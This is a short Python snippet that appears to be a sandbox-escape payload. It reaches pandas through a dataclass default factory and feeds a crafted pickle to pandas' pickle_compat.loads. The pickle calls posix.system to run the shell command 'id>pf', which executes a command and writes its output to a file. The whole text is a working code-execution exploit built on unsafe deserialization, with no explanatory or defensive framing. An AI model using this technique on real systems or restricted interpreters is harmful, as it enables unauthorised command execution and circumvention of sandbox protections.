import dataclasses, pandas
@dataclasses.dataclass
class C:
    lib: object = dataclasses.field(default_factory=lambda: pandas)
C().lib.compat.pickle_compat.loads(b"cposix\nsystem\n(S'id>pf'\ntR.")
